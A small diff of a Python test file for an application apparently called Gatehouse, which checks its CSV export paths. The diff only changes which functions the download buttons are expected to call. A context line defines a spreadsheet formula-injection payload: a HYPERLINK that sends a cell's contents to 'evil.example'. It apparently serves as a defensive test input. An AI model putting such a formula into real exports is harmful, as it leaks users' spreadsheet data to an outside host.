@@ -22,7 +22,10 @@ ROOT = Path(__file__).resolve().parents[2]
 Cli = Callable[..., subprocess.CompletedProcess[str]]
 EVIL = '=HYPERLINK("https://evil.example/?d="&A2,"Open evidence")'
 # Where an export leaves Gatehouse: the page's download button (and the core function it calls), and the command.
-PAGE_DOWNLOADS = {"pages/platform.py": "audit_trail.export(", "pages/ui/reviews_view.py": "reviews.report_csv("}
+PAGE_DOWNLOADS = {
+    "pages/platform.py": "cached.read_text(audit_trail.export,",
+    "pages/ui/reviews_view.py": "cached.read_text(reviews.report_csv,",
+}
 
 
 def _cells(text: str) -> list[str]:
